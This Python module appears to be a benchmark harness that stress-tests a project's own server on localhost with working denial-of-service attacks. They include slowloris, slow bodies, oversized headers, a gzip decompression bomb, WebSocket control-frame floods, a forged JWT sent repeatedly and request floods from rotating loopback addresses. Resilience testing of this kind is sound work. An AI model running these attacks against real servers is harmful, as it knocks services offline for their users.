"""Attackers of bench/hostile.py, in a process of their own and from other addresses.

    python -m bench.attackers ATTACK PORT COUNT < tokens

Prints a line at the first connection, and goes on until it is killed. ATTACK is one of ATTACKS.
"""

import asyncio
import contextlib
import gzip
import itertools
import os
import struct
import sys
from collections.abc import Awaitable, Callable

import uvloop

#: The server shares two cores with them: they get what it leaves over.
NICENESS = 19
#: New connections a second, of all attackers together.
A_SECOND = 1_000
ADDRESSES = [f"127.0.0.{number}" for number in range(2, 18)]
#: Those that ask as fast as they are answered: more is no attack on limits by address.
FLOODING = 4
JOIN = "/api/consultoria/queue/join/"
#: What a connection ends with; uvloop's are RuntimeErrors now and then.
BROKEN = (OSError, RuntimeError, asyncio.IncompleteReadError)
BOMB = gzip.compress(bytes(10_000_000))


class Field:
    """Where to attack, and with what."""

    def __init__(self, port: int, tokens: list[str], addresses: int) -> None:
        self._port = port
        self._addresses = itertools.cycle(ADDRESSES[:addresses])
        self._tokens = itertools.cycle(tokens or [""])
        self._next_at = 0.0
        self._is_on = False

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        loop = asyncio.get_running_loop()
        self._next_at = max(self._next_at + 1 / A_SECOND, loop.time())
        await asyncio.sleep(self._next_at - loop.time())
        # From the next address; the port is any that is free for this server.
        connection = await asyncio.open_connection(
            "127.0.0.1", self._port, local_addr=(next(self._addresses), 0)
        )
        if not self._is_on:
            self._is_on = True
            print("on", flush=True)
        return connection

    def request(self, line: str, body: bytes = b"", *headers: str) -> bytes:
        """With somebody's token."""
        token = f"Authorization: Bearer {next(self._tokens)}"
        length = f"Content-Length: {len(body)}"
        lines = [f"{line} HTTP/1.1", "Host: localhost", token, length, *headers, "", ""]
        return "\r\n".join(lines).encode() + body

    async def socket(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A voice socket, or what was refused instead."""
        reader, writer = await self.connect()
        upgrade = (
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Extensions: permessage-deflate",
        )
        writer.write(self.request("GET /ws/voice-chat?agent=silent", b"", *upgrade))
        await reader.readuntil(b"\r\n\r\n")
        return reader, writer


async def read_all(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def slowloris(field: Field) -> None:
    """Headers, a byte a second."""
    _, writer = await field.connect()
    writer.write(b"GET / HTTP/1.1\r\nX: ")
    while not writer.is_closing():
        await asyncio.sleep(1.0)
        writer.write(b"x")


async def slow_bodies(field: Field) -> None:
    _, writer = await field.connect()
    head = field.request(f"POST {JOIN}").replace(b"Content-Length: 0", b"Content-Length: 9000")
    writer.write(head)
    while not writer.is_closing():
        await asyncio.sleep(1.0)
        writer.write(b" ")


async def half_open(field: Field) -> None:
    reader, _ = await field.connect()
    await read_all(reader)


async def kept_alive(field: Field) -> None:
    """One request, and then nothing."""
    reader, writer = await field.connect()
    writer.write(field.request("GET /health"))
    await read_all(reader)


async def large_headers(field: Field) -> None:
    reader, writer = await field.connect()
    for _ in range(16):
        writer.write(b"X-Filler: " + b"x" * 65_536 + b"\r\n")
        await writer.drain()
    await read_all(reader)


async def _ask(field: Field, request: Callable[[], bytes]) -> None:
    """Over and over, each when the last one is answered."""
    reader, writer = await field.connect()
    while True:
        writer.write(request())
        head = await reader.readuntil(b"\r\n\r\n")
        length = int(head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0] or 0)
        await reader.readexactly(length)


async def joins(field: Field) -> None:
    await _ask(field, lambda: field.request(f"POST {JOIN}", b'{"agent_type":"gestao"}'))


async def guesses(field: Field) -> None:
    token = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyX2lkIjo3fQ.c2lnbmF0dXJl"
    lines = ["GET /api/consultoria/queue/status/ HTTP/1.1", "Host: localhost", token, "", ""]
    request = "\r\n".join(lines).encode()
    await _ask(field, lambda: request)


async def bombs(field: Field) -> None:
    """10 MB in 10 kB, as a body and as a message."""
    body = field.request(f"POST {JOIN}", BOMB, "Content-Encoding: gzip")
    with contextlib.suppress(asyncio.IncompleteReadError):
        await _ask(field, lambda: body)
    reader, writer = await field.socket()
    writer.write(struct.pack("!BBH", 0xC2, 0x80 | 126, len(BOMB)) + b"\0\0\0\0" + BOMB)
    await read_all(reader)


async def unused_sockets(field: Field) -> None:
    reader, _ = await field.socket()
    await read_all(reader)
    await asyncio.sleep(5.0)


async def control_frames(field: Field) -> None:
    """Pings, and fragments of nothing, as fast as they are taken."""
    reader, writer = await field.socket()
    reading = asyncio.create_task(read_all(reader))
    ping, piece = struct.pack("!BBI", 0x89, 0x80, 0), struct.pack("!BBI", 0x00, 0x80, 0)
    writer.write(struct.pack("!BBI", 0x01, 0x80, 0))
    while not writer.is_closing():
        writer.write((ping + piece) * 1_000)
        await writer.drain()
    await reading


async def unread(field: Field) -> None:
    """A hundred pages asked for at once, and none read."""
    reader, writer = await field.connect()
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(field.request("GET /test") * 100)
    await asyncio.sleep(3_600)
    await read_all(reader)


Attack = Callable[[Field], Awaitable[None]]
#: With how many at once, and from how many addresses.
ATTACKS: dict[str, tuple[Attack, int, int]] = {
    "slowloris": (slowloris, 2_000, 16),
    "slow bodies": (slow_bodies, 2_000, 16),
    "half-open": (half_open, 10_000, 16),
    "idle keep-alive": (kept_alive, 3_000, 16),
    "oversized headers": (large_headers, 50, 16),
    "joins": (joins, 100, FLOODING),
    "wrong tokens": (guesses, 100, FLOODING),
    "unused WebSockets": (unused_sockets, 2_000, 16),
    "control frames": (control_frames, 20, FLOODING),
    "compressed bombs": (bombs, 50, FLOODING),
    "unread answers": (unread, 500, FLOODING),
}


async def attack(do: Attack, field: Field, count: int) -> None:
    async def go_on() -> None:
        while True:
            with contextlib.suppress(*BROKEN):
                await do(field)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(go_on() for _ in range(count)))


def main() -> None:
    os.nice(NICENESS)
    name, port, count = sys.argv[1:]
    do, _, addresses = ATTACKS[name]
    field = Field(int(port), sys.stdin.read().split(), addresses)
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(attack(do, field, int(count)))


if __name__ == "__main__":
    main()
